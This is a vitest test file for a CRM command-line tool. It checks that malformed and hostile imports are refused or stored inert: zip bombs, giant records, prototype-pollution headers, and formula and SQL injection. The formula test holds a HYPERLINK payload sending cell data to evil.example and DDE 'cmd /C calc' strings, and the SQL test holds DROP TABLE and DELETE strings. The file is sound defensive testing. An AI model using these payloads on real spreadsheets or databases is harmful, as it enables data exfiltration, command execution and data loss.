import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Database from 'better-sqlite3';
import * as XLSX from '@e965/xlsx';
import iconv from 'iconv-lite';
import { beforeAll, describe, expect, it } from 'vitest';
import { cli, tempDir } from '../helpers/org.js';

/**
 * Hostile and broken input (issue 9): each refused with ONE error line naming the file, the line
 * where it can, and the cause; a non-zero exit; the org unchanged (every row of every table) and
 * no result file left under its real name.
 */
const IMPORT_FIXTURES = fileURLToPath(new URL('../../fixtures/import/', import.meta.url));
const HOSTILE_FIXTURES = fileURLToPath(new URL('../../fixtures/hostile/', import.meta.url));
const BIN = fileURLToPath(new URL('../../bin/crmctl', import.meta.url));

/** Every row of every table: the org's content, independent of page layout. */
function fingerprint(db: string): string {
  const raw = new Database(db, { readonly: true });
  try {
    const tables = (raw.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name").all() as { name: string }[]).map((t) => t.name);
    // command_log records that a command ran (adoption dashboard), not data the command changed.
    const content = tables.filter((t) => t !== 'command_log').map((t) => [t, raw.prepare(`SELECT * FROM "${t.replaceAll('"', '""')}" ORDER BY rowid`).all()]);
    return createHash('sha256').update(JSON.stringify(content)).digest('hex');
  } finally {
    raw.close();
  }
}

/** One org with one record (so "unchanged" is about real content), copied for each test: init's real scrypt is slow. */
let template: string;
beforeAll(async () => {
  template = join(tempDir('crmctl-hostile-template-'), 'org.db');
  expect((await cli(['--db', template, 'init', '--company', 'Acme', '--admin', 'admin'])).code).toBe(0);
  expect((await cli(['--db', template, 'record', 'create', 'contact', '--set', 'FirstName=Līga', '--set', 'LastName=Kalniņa', '--set', 'Email=liga@example.lv'])).code).toBe(0);
});

async function freshOrg() {
  const dir = tempDir('crmctl-hostile-');
  const db = join(dir, 'org.db');
  copyFileSync(template, db);
  return { dir, db };
}

interface Refusal {
  /** What the one error line must say, e.g. /big\.csv: line 3 .* longer than 8 MiB/. */
  says: RegExp;
  args?: string[];
  stdin?: string;
}

/** Imports `file` (already in `dir`) and checks the refusal: message, exit code, JSON error, org and result files. */
async function expectRefused(org: { dir: string; db: string }, file: string, refusal: Refusal): Promise<string> {
  const before = fingerprint(org.db);
  const run = await cli(['--db', org.db, 'import', file, '--object', 'contact', '--json', ...(refusal.args ?? [])], { cwd: org.dir, ...(refusal.stdin === undefined ? {} : { stdin: refusal.stdin }) });
  expect(run.code).toBe(1);
  const lines = run.stderr.trimEnd().split('\n');
  // One error line (then the hint line).
  expect(lines[0]).toMatch(/^error /);
  expect(lines[0]).toMatch(refusal.says);
  expect(lines.slice(1).every((l) => l.startsWith('hint'))).toBe(true);
  expect(run.json()).toMatchObject({ error: { code: 'BAD_INPUT_FILE', message: expect.stringMatching(refusal.says) } });
  expect(fingerprint(org.db)).toBe(before);
  expect(readdirSync(org.dir).filter((f) => /\.(success|errors)\.csv(\.partial)?$/.test(f))).toEqual([]);
  return lines[0]!;
}

function copyIn(dir: string, folder: string, fixture: string): string {
  copyFileSync(join(folder, fixture), join(dir, fixture));
  return fixture;
}

describe('broken files are refused with file, line and cause; the org is unchanged', () => {
  it('an unterminated quote: the line where the bad record starts', async () => {
    const org = await freshOrg();
    await expectRefused(org, copyIn(org.dir, IMPORT_FIXTURES, 'unterminated-quote.csv'), { says: /unterminated-quote\.csv: line 5 opens a quoted field that is never closed/ });
  });

  it('a 10 MB cell: refused at its line, not truncated', async () => {
    const org = await freshOrg();
    writeFileSync(join(org.dir, 'huge-cell.csv'), `First Name,Last Name,Notes\r\nAnna,Ozola,short\r\nJānis,Bērziņš,"${'x'.repeat(10 * 1024 * 1024)}"\r\nLast,Row,fine\r\n`);
    await expectRefused(org, 'huge-cell.csv', { says: /huge-cell\.csv: the record starting at line 3 is longer than 8 MiB/ });
  });

  it('a 3 MB cell (under the record limit): the cell limit names line and column', async () => {
    const org = await freshOrg();
    writeFileSync(join(org.dir, 'big-cell.csv'), `First Name,Last Name,Notes\r\nAnna,Ozola,short\r\nJānis,Bērziņš,"${'ā'.repeat(1024 * 1024)}"\r\n`);
    await expectRefused(org, 'big-cell.csv', { says: /big-cell\.csv: line 3, column "Notes" holds 2 MiB, more than the 1 MiB a cell may hold/ });
  });

  it('binary data, a plain ZIP archive and an SQLite file named .csv: said what they are', async () => {
    const org = await freshOrg();
    await expectRefused(org, copyIn(org.dir, IMPORT_FIXTURES, 'binary-as-csv.csv'), { says: /binary-as-csv\.csv is not a contact export: it looks like binary data/ });
    await expectRefused(org, copyIn(org.dir, HOSTILE_FIXTURES, 'zip-archive-named-csv.csv'), { says: /zip-archive-named-csv\.csv is a ZIP archive but not an Excel workbook/ });
    copyFileSync(org.db, join(org.dir, 'org-copy.csv'));
    await expectRefused(org, 'org-copy.csv', { says: /org-copy\.csv is not a contact export: it looks like an SQLite database/ });
  });

  it('a wrong --encoding: says what the file really is', async () => {
    const org = await freshOrg();
    writeFileSync(join(org.dir, 'utf16.csv'), iconv.encode('\uFEFFFirst Name,Last Name\r\nJānis,Bērziņš\r\n', 'utf-16le'));
    await expectRefused(org, 'utf16.csv', { args: ['--encoding', 'utf-8'], says: /utf16\.csv does not look like utf-8: it is utf-16le text/ });
    writeFileSync(join(org.dir, 'utf8.csv'), 'First Name,Last Name\r\nJānis,Bērziņš\r\n');
    await expectRefused(org, 'utf8.csv', { args: ['--encoding', 'utf-16le'], says: /utf8\.csv does not look like utf-16le/ });
  });

  it('an empty file and a header without rows', async () => {
    const org = await freshOrg();
    await expectRefused(org, copyIn(org.dir, IMPORT_FIXTURES, 'empty.csv'), { says: /empty\.csv: the file is empty/ });
    await expectRefused(org, copyIn(org.dir, IMPORT_FIXTURES, 'header-only.csv'), { says: /header-only\.csv: the file has a header line but no rows/ });
    await expectRefused(org, '-', { stdin: 'First Name,Last Name\r\n\r\n', says: /stdin: the file has a header line but no rows/ });
  });

  it('xlsx zip bombs and an absurd sheet range: refused in well under a second', async () => {
    const org = await freshOrg();
    for (const [fixture, says] of [
      ['zip-bomb.xlsx', /zip-bomb\.xlsx is not safe to read: xl\/worksheets\/sheet1\.xml expands to more than the 1 KiB its ZIP directory declares/],
      ['zip-bomb-declared-size.xlsx', /zip-bomb-declared-size\.xlsx would expand to 2\.8 GiB, more than the 512 MiB allowed/],
      ['absurd-dimension.xlsx', /absurd-dimension\.xlsx: xl\/worksheets\/sheet1\.xml declares a 1,048,576 × 16,384 cell range/],
    ] as const) {
      const started = performance.now();
      await expectRefused(org, copyIn(org.dir, IMPORT_FIXTURES, fixture), { says });
      expect(performance.now() - started).toBeLessThan(1500);
    }
  });
});

describe('hostile content is stored as inert text', () => {
  it('duplicate column names in a generic file: refused naming the file, line and columns; a mapping that places each imports it', async () => {
    const org = await freshOrg();
    const file = copyIn(org.dir, IMPORT_FIXTURES, 'duplicate-headers.csv');
    const count = async () => (await cli(['--db', org.db, 'record', 'list', 'contact', '--json'])).json<{ count: number }>().count;
    const before = await count();
    const refused = await cli(['--db', org.db, 'import', file, '--object', 'contact', '--json'], { cwd: org.dir });
    expect(refused.code).toBe(1);
    expect(refused.json()).toMatchObject({ error: { code: 'BAD_INPUT_FILE' } });
    expect(refused.stderr).toMatch(/duplicate-headers\.csv: line 1 names "Email" \(columns 1 and 3\) twice/);
    expect(await count()).toBe(before);
    // With a mapping saying where each column goes, nothing is dropped.
    writeFileSync(join(org.dir, 'm.json'), JSON.stringify({ version: 1, object: 'Contact', fields: { Email: 'Email', LastName: 'Name', Description: 'Email (2)', Phone: 'Phone' } }));
    const mapped = await cli(['--db', org.db, 'import', file, '--object', 'contact', '--mapping', 'm.json', '--json'], { cwd: org.dir });
    expect(mapped.code).toBe(0);
    const contacts = (await cli(['--db', org.db, 'record', 'list', 'contact', '--json'])).json<{ records: Record<string, unknown>[] }>().records;
    expect(contacts).toEqual(expect.arrayContaining([expect.objectContaining({ Email: 'work@example.lv', Description: 'home@example.lv' })]));
  });

  it('__proto__ / constructor as sheet and column names: Object.prototype stays clean, the row is imported', async () => {
    const org = await freshOrg();
    const run = await cli(['--db', org.db, 'import', copyIn(org.dir, IMPORT_FIXTURES, 'prototype-pollution-headers.xlsx'), '--object', 'contact', '--json'], { cwd: org.dir });
    expect(run.code).toBe(0);
    expect(run.json()).toMatchObject({ sheet: '__proto__', rows: 1, inserted: 1 });
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(typeof ({} as { hasOwnProperty: unknown }).hasOwnProperty).toBe('function');
    expect(typeof Object.prototype.toString).toBe('function');

    // The same names in a CSV, and in a mapping file naming __proto__ as a field.
    writeFileSync(join(org.dir, 'proto.csv'), '__proto__,constructor,Last Name,prototype\r\n"{""polluted"":1}",Object,Þórsdóttir,x\r\n');
    writeFileSync(join(org.dir, 'proto-mapping.json'), JSON.stringify({ version: 1, object: 'Contact', fields: { LastName: 'Last Name', __proto__: 'constructor' } }).replace('"LastName"', '"__proto__":"__proto__","LastName"'));
    const csv = await cli(['--db', org.db, 'import', 'proto.csv', '--object', 'contact', '--json'], { cwd: org.dir });
    expect(csv.code).toBe(0);
    expect(csv.json()).toMatchObject({ rows: 1, inserted: 1 });
    const mapped = await cli(['--db', org.db, 'import', 'proto.csv', '--object', 'contact', '--mapping', 'proto-mapping.json', '--json'], { cwd: org.dir });
    expect(mapped.code).not.toBe(0);
    expect(mapped.stderr).toContain('__proto__');
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const contacts = (await cli(['--db', org.db, 'record', 'list', 'contact', '--json'])).json<{ records: Record<string, unknown>[] }>().records;
    expect(contacts.map((c) => c.LastName).sort()).toEqual(['Kalniņa', 'Þóra', 'Þórsdóttir']);
  });

  it('formula-laden cells are stored exactly as text and exported inert (CSV prefixed, XLSX as strings, no formulas)', async () => {
    const org = await freshOrg();
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '=1+1'];
    const lines = ['First Name,Last Name,Job Title,Notes', ...formulas.map((f, i) => `Row${i},"${f.replaceAll('"', '""')}",ok,"${f.replaceAll('"', '""')}"`)];
    writeFileSync(join(org.dir, 'formulas.csv'), lines.join('\r\n') + '\r\n');
    const run = await cli(['--db', org.db, 'import', 'formulas.csv', '--object', 'contact', '--json'], { cwd: org.dir });
    expect(run.code).toBe(0);
    expect(run.json()).toMatchObject({ rows: formulas.length, inserted: formulas.length });
    const contacts = (await cli(['--db', org.db, 'record', 'list', 'contact', '--json'])).json<{ records: Record<string, unknown>[] }>().records;
    for (let i = 0; i < formulas.length; i++) {
      expect(contacts.find((c) => c.FirstName === `Row${i}`)).toMatchObject({ LastName: formulas[i], Description: formulas[i] });
    }

    expect((await cli(['--db', org.db, 'export', 'contact', '--out', join(org.dir, 'out.csv')])).code).toBe(0);
    const exported = readFileSync(join(org.dir, 'out.csv'), 'utf8');
    for (const f of formulas) {
      // Every formula-looking cell starts with the neutralising quote; none starts a cell bare.
      const quoted = `"'${f.replaceAll('"', '""')}"`;
      const plain = `'${f}`;
      expect(exported.includes(quoted) || exported.includes(plain)).toBe(true);
    }
    expect(exported).not.toMatch(/(^|,)"?=HYPERLINK/m);

    expect((await cli(['--db', org.db, 'export', 'contact', '--out', join(org.dir, 'out.xlsx')])).code).toBe(0);
    const book = XLSX.read(readFileSync(join(org.dir, 'out.xlsx')), { cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!')).map(([, cell]) => cell as XLSX.CellObject);
    expect(cells.filter((c) => c.f !== undefined)).toEqual([]);
    const texts = cells.filter((c) => c.t === 's').map((c) => String(c.v));
    for (const f of formulas) expect(texts).toContain(`'${f}`);
  });

  it("SQL in field labels, headers and values ('); DROP TABLE Contact;--) is data: tables intact, values verbatim", async () => {
    const org = await freshOrg();
    const sql = "'); DROP TABLE Contact;--";
    const added = await cli(['--db', org.db, 'field', 'add', 'contact', `Tier${sql}`, '--type', 'text', '--json']);
    expect(added.code).toBe(0);
    const apiName = added.json<{ field?: { name: string }; name?: string }>();
    const fieldName = apiName.field?.name ?? apiName.name!;
    expect(fieldName).toMatch(/^[A-Za-z][A-Za-z0-9_]*__c$/);

    writeFileSync(join(org.dir, 'sql.csv'), `First Name,Last Name,E-mail Address,"${sql.replaceAll('"', '""')}"\r\nRobert${sql},Tables"; DELETE FROM Contact; --,bobby@example.com,x${sql}\r\n`);
    const run = await cli(['--db', org.db, 'import', 'sql.csv', '--object', 'contact', '--json'], { cwd: org.dir });
    expect(run.code).toBe(0);
    expect(run.json()).toMatchObject({ rows: 1, inserted: 1 });
    const where = await cli(['--db', org.db, 'record', 'list', 'contact', '--where', `FirstName = 'Robert''); DROP TABLE Contact;--'`, '--json']);
    expect(where.code).toBe(0);
    const found = where.json<{ records: Record<string, unknown>[] }>().records;
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ FirstName: `Robert${sql}`, LastName: 'Tables"; DELETE FROM Contact; --', Email: 'bobby@example.com' });
    // An injection attempt in --where is a usage error, not SQL.
    const injected = await cli(['--db', org.db, 'record', 'list', 'contact', '--where', `LastName = 'x' OR 1=1; DROP TABLE Contact;--`, '--json']);
    expect(injected.code).toBe(2);
    const raw = new Database(org.db, { readonly: true });
    expect((raw.prepare('SELECT count(*) AS n FROM Contact').get() as { n: number }).n).toBe(2);
    expect(raw.pragma('integrity_check', { simple: true })).toBe('ok');
    raw.close();
  });
});

/** Runs the real binary with its peak RSS (KiB) printed at exit, feeding stdin from a generator. */
function runMeasured(args: string[], cwd: string, input?: { chunk: Buffer; times: number; head: string }, env: Record<string, string> = {}) {
  // Peak RSS of this process: VmHWM (ru_maxrss would include the parent's peak, which is inherited across fork).
  const report = 'data:text/javascript,import{readFileSync,writeSync}from"node:fs";process.on("exit",()=>{let kb=process.resourceUsage().maxRSS;try{kb=Number(/VmHWM:\\s*(\\d+)/.exec(readFileSync("/proc/self/status","utf8"))[1])}catch{}writeSync(2,"\\nMAXRSS_KB="+kb+"\\n")})';
  const child = spawn(process.execPath, ['--import', report, BIN, ...args], { cwd, env: { ...process.env, NO_COLOR: '1', CRMCTL_DB: '', ...env } });
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (s: string) => (stdout += s));
  child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
  let written = 0;
  // The child stops reading as soon as it refuses the input: the pipe then closes under us.
  child.stdin.on('error', () => {});
  if (input) {
    void (async () => {
      const write = (data: Buffer | string) => new Promise<boolean>((resolve) => (child.stdin.write(data, (error) => resolve(!error)) ? undefined : child.stdin.once('drain', () => undefined)));
      if (!(await write(input.head))) return;
      for (let i = 0; i < input.times; i++) {
        if (child.stdin.destroyed || !(await write(input.chunk))) return;
        written += input.chunk.length;
      }
      child.stdin.end();
    })();
  } else child.stdin.end();
  return new Promise<{ code: number | null; stdout: string; stderr: string; maxRssMiB: number; written: number }>((resolve) =>
    child.on('close', (code) => {
      const kb = Number(/MAXRSS_KB=(\d+)/.exec(stderr)?.[1] ?? NaN);
      resolve({ code, stdout, stderr: stderr.replace(/\n?MAXRSS_KB=\d+\n/, ''), maxRssMiB: kb / 1024, written });
    }),
  );
}

describe('bounded memory on giant input (the real binary; the full 2 GB case is bench/hostile/long-line.mjs)', () => {
  const MiB = 1024 * 1024;
  /**
   * Peak RSS allowed: Node and crmctl take ~90 MiB; csv-parse holds up to one 8 MiB record, and a record
   * of millions of 1-3 character cells costs ~30 bytes of heap per input byte (measured ~300 MiB at worst).
   * Bounded by the record limit, not the input: the 2 GB bench stays under the same figure.
   */
  const PEAK_MIB = 400;

  it('a 256 MiB line without a newline streamed through stdin: refused at line 2 after reading ~10 MiB, peak RSS bounded by the record limit', async () => {
    const org = await freshOrg();
    // 1 MiB of short comma-separated cells, never a line break, repeated.
    const chunk = Buffer.from('abc,def,'.repeat(MiB / 8));
    const run = await runMeasured(['--db', org.db, 'import', '-', '--object', 'contact', '--json'], org.dir, { head: 'First Name,Last Name,E-mail Address\r\n', chunk, times: 256 });
    expect(run.code).toBe(1);
    expect(run.stderr.split('\n')[0]).toMatch(/^error -: the record starting at line 2 is longer than 8 MiB/);
    expect(run.maxRssMiB).toBeLessThan(PEAK_MIB);
    // It stopped reading soon after the limit instead of swallowing the whole stream.
    expect(run.written).toBeLessThan(128 * MiB);
  });

  it('a 64 MiB third line in a file read by the import worker thread: refused at line 3, org unchanged', async () => {
    const org = await freshOrg();
    const before = fingerprint(org.db);
    writeFileSync(join(org.dir, 'long-row.csv'), Buffer.concat([Buffer.from('First Name,Last Name\r\nAnna,Ozola\r\n'), Buffer.alloc(64 * MiB, 'x,')]));
    const run = await runMeasured(['--db', org.db, 'import', 'long-row.csv', '--object', 'contact', '--json'], org.dir, undefined, { CRMCTL_IMPORT_WORKERS: '1' });
    expect(run.code).toBe(1);
    expect(run.stderr.split('\n')[0]).toMatch(/long-row\.csv: the record starting at line 3 is longer than 8 MiB/);
    expect(run.maxRssMiB).toBeLessThan(PEAK_MIB);
    expect(fingerprint(org.db)).toBe(before);
  });

  it('the zip bomb stays small in memory in the real binary too', async () => {
    const org = await freshOrg();
    copyIn(org.dir, IMPORT_FIXTURES, 'zip-bomb.xlsx');
    const run = await runMeasured(['--db', org.db, 'import', 'zip-bomb.xlsx', '--object', 'contact'], org.dir);
    expect(run.code).toBe(1);
    expect(run.maxRssMiB).toBeLessThan(150);
  });
});
